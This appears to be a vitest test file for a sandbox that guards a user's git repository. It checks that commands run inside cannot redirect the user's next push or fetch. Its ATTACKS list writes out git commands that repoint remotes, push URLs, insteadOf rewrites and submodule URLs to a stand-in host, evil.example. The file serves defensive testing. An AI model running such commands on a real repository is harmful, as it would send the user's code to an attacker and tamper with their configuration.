import { describe, expect } from "vitest";
import { pickShare } from "../../../../../../test/support/share.ts";
import { tempFolder } from "../../../support.ts";
import { createProject, contain, git, onHost, testContained } from "../contained.ts";

const EVIL = "https://evil.example/x.git";
/** Settings that decide where the user's next push or fetch goes. */
const ROUTES = String.raw`^(remote\..*|branch\..*\.(remote|pushremote)|submodule\..*\.url|url\..*)$`;
const routesOf = (root: string): string => git(root, "config", "--local", "--get-regexp", ROUTES);

/** Each command tries to send the next push or fetch of the user to another address. */
const ATTACKS = [
  `git remote set-url origin ${EVIL}`,
  `git remote set-url --push origin ${EVIL}`,
  `git remote set-url --add origin ${EVIL}`,
  `git config remote.origin.pushurl ${EVIL}`,
  `git config url.${EVIL}.insteadOf ../origin; git config url.${EVIL}.pushInsteadOf ../origin`,
  `git remote add evil ${EVIL}; git config branch.main.pushRemote evil; git config remote.pushDefault evil`,
  `git remote add evil ${EVIL}; git config branch.main.remote evil`,
  `git remote add evil ${EVIL}; git config branch.local.remote evil; git config branch.local.merge refs/heads/local`,
  `git config branch.main.remote ${EVIL}; git config branch.main.pushRemote ${EVIL}`,
  `git config submodule.sub.url ${EVIL}`,
  `git remote add evil ../origin; git remote set-url evil ${EVIL}; git config branch.main.remote evil`,
];

function aUsersProject() {
  const { root, folder } = createProject();
  onHost(
    root,
    "git branch local; git branch packed; git pack-refs --all; git branch loose; git config submodule.sub.url ../origin; git config submodule.sub.active true",
  );
  return { root, folder };
}

describe("destinations of the user's next push", () => {
  for (const command of pickShare(ATTACKS, 3))
    testContained(command, async () => {
      const { root } = aUsersProject();
      const before = routesOf(root);
      const view = await contain([root]);
      const ran = await view.call(command);
      expect(ran).toMatchObject({ code: 0 });
      expect(ran.notices.join("\n")).toMatch(/^(?:Commands changed the address|Of the settings of git)/);
      const others = (text: string): string =>
        text
          .split("\n")
          .filter((line) => !line.startsWith("remote.evil."))
          .join("\n");
      expect(others(routesOf(root))).toBe(others(before));
      expect((await view.run("git config --get-regexp .")).output).toContain(EVIL);
      await view.close();
      expect(others(routesOf(root))).toBe(others(before));
    });

  testContained("stay if commands remove a remote and add it again, also in the next session", async () => {
    const { root } = aUsersProject();
    const url = git(root, "remote", "get-url", "origin");
    const folder = tempFolder("git-state");
    const first = await contain([root], folder);
    expect(await first.call("git remote remove origin")).toMatchObject({ code: 0, notices: [] });
    await first.call(`git remote add origin ${EVIL}`);
    expect(routesOf(root)).not.toContain(EVIL);
    await first.close();
    const second = await contain([root], folder);
    await second.call(`git remote remove origin; git remote add origin ${EVIL}`);
    expect(routesOf(root)).not.toContain(EVIL);
    await second.call(`git remote set-url origin ${url}`);
    expect(git(root, "remote", "get-url", "origin")).toBe(url);
    await second.close();
    onHost(root, "git remote set-url origin https://example.com/new.git");
    const third = await contain([root], folder);
    await third.call(`git remote set-url origin ${url}`);
    expect(git(root, "remote", "get-url", "origin")).toBe("https://example.com/new.git\n");
    await third.close();
  });

  testContained("never use a remote that commands added", async () => {
    const { root } = aUsersProject();
    const folder = tempFolder("git-state");
    const first = await contain([root], folder);
    expect(
      await first.call(
        `git remote add same ../origin; git config branch.main.remote same; git remote add evil ${EVIL}`,
      ),
    ).toMatchObject({ notices: [] });
    await first.call(`git remote set-url same ${EVIL}`);
    await first.close();
    const second = await contain([root], folder);
    await second.call("git config branch.main.remote evil; git config remote.pushDefault evil");
    await second.close();
    const third = await contain([root], folder);
    await third.call("git config branch.local.remote evil");
    await third.close();
    expect(routesOf(root).match(/^.*evil.*$/gm)).toEqual([
      `remote.evil.url ${EVIL}`,
      "remote.evil.fetch +refs/heads/*:refs/remotes/evil/*",
    ]);
    onHost(root, "git remote set-url evil https://example.com/fine.git");
    const fourth = await contain([root], folder);
    expect(await fourth.call("git config branch.local.remote evil")).toMatchObject({ notices: [] });
    expect(git(root, "config", "branch.local.remote")).toBe("evil\n");
  });

  testContained("change by ordinary work of commands", async () => {
    const { root } = aUsersProject();
    const view = await contain([root]);
    const ran = await view.call(
      `git remote add fork https://example.com/fork.git && git remote set-url fork https://example.com/mine.git &&
       git checkout -qb feature && git config branch.feature.remote fork && git config branch.feature.merge refs/heads/feature &&
       git branch -q -u origin/topic main && git remote rename fork backup && git remote remove backup && git remote rename origin upstream`,
    );
    expect(ran).toMatchObject({ code: 0, notices: [] });
    expect(git(root, "config", "branch.main.merge")).toBe("refs/heads/topic\n");
    expect(git(root, "config", "branch.main.remote")).toBe("upstream\n");
    expect(git(root, "remote")).toBe("upstream\n");
  });

  testContained("follow changes that the user made in between", async () => {
    const { root } = aUsersProject();
    const view = await contain([root]);
    await view.call("true");
    onHost(
      root,
      "git remote set-url origin https://example.com/moved.git; git remote add mine https://example.com/mine.git",
    );
    expect(await view.call("git config branch.local.remote mine; git remote get-url origin")).toMatchObject({
      output: "https://example.com/moved.git\n",
      notices: [],
    });
    expect(git(root, "config", "branch.local.remote")).toBe("mine\n");
    await view.call(`git remote set-url mine ${EVIL}`);
    expect(git(root, "remote", "get-url", "mine")).toBe("https://example.com/mine.git\n");
  });
});
